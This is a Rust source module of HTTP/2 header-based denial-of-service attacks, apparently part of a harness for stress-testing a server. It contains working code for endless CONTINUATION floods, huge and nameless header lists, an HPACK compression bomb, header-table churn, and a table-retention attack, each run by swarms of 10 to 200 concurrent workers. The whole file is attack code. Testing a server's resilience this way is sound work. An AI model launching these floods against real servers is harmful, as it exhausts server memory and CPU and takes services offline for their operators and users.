//! Attacks with headers.

use super::{
    connection::flood,
    frame::{Block, Frames, flag, kind, setting},
};
use crate::attack::scene::Scene;

/// The default limit of data in a frame.
const LARGEST_FRAME: usize = 16_384;

/// A head without a token.
fn head() -> Block {
    Block::of("GET", "/v1/locations", None)
}

/// A request with a head of several frames.
fn long_request(stream: u32, block: &Block) -> Frames {
    let pieces: Vec<_> = block.0.chunks(LARGEST_FRAME).collect();
    let mut frames = Frames::default();
    for (at, piece) in pieces.iter().enumerate() {
        let end = if at + 1 == pieces.len() {
            flag::END_HEADERS
        } else {
            0
        };
        frames = match at {
            0 => frames.add(kind::HEADERS, flag::END_STREAM | end, stream, piece),
            _ => frames.add(kind::CONTINUATION, end, stream, piece),
        };
    }
    frames
}

/// Begins a head, and continues with `piece` until the server stops it.
async fn endless(scene: Scene, piece: Vec<u8>) {
    let work = |scene: Scene| {
        let piece = piece.clone();
        async move {
            let mut first =
                Some(Frames::default().add(kind::HEADERS, flag::END_STREAM, 1, &head().0));
            let next = || {
                let frames = first.take().unwrap_or_default();
                (0..10).fold(frames, |frames, _| {
                    frames.add(kind::CONTINUATION, 0, 1, &piece)
                })
            };
            flood(&scene, &[], next).await
        }
    };
    scene.swarm(20, work).await;
}

pub(super) async fn continuation(scene: Scene) {
    let mut piece = Block::default();
    while piece.0.len() < LARGEST_FRAME - 200 {
        piece = piece.field("x-more", &"m".repeat(100));
    }
    endless(scene, piece.0).await;
}

pub(super) async fn empty_continuation(scene: Scene) {
    endless(scene, Vec::new()).await;
}

pub(super) async fn long_list(scene: Scene) {
    let mut block = head();
    for number in 0..10_000 {
        block = block.field(&format!("x-{number}"), &"m".repeat(90));
    }
    requests(scene, block).await;
}

pub(super) async fn bomb(scene: Scene) {
    let block = head().kept("x-bomb", &"b".repeat(4000)).again(14_000);
    requests(scene, block).await;
}

pub(super) async fn nameless(scene: Scene) {
    let block = (0..4000).fold(head(), |block, _| block.field("", ""));
    requests(scene, block).await;
}

/// Sends requests with this head, one after the other.
async fn requests(scene: Scene, block: Block) {
    let work = |scene: Scene| {
        let block = block.clone();
        async move {
            let mut stream = 1;
            let next = || {
                stream += 2;
                long_request(stream - 2, &block)
            };
            flood(&scene, &[], next).await
        }
    };
    scene.swarm(10, work).await;
}

pub(super) async fn table_churn(scene: Scene) {
    let work = |scene: Scene| async move {
        let path = format!("{}?limit=1", scene.products);
        let block = Block::of("GET", &path, Some(scene.token()));
        let mut stream = 1;
        let next = || {
            stream += 2;
            let frames = Frames::default().settings(&[(setting::HEADER_TABLE, 0)]);
            let frames = frames.settings(&[(setting::HEADER_TABLE, u32::MAX)]);
            frames.request(stream - 2, &block)
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(10, work).await;
}

/// Each head leaves its short path in the server's table.
/// The path keeps the whole head in memory; h2 copies other headers.
pub(super) async fn table_of_long_heads(scene: Scene) {
    let filler = "f".repeat(12_000);
    let work = |scene: Scene| {
        let filler = filler.clone();
        async move {
            let mut stream = 1;
            let next = || {
                stream += 2;
                let block = Block::with_kept_path("/").field("x-filler", &filler);
                Frames::default().request(stream - 2, &block)
            };
            flood(&scene, &[], next).await
        }
    };
    scene.swarm(200, work).await;
}
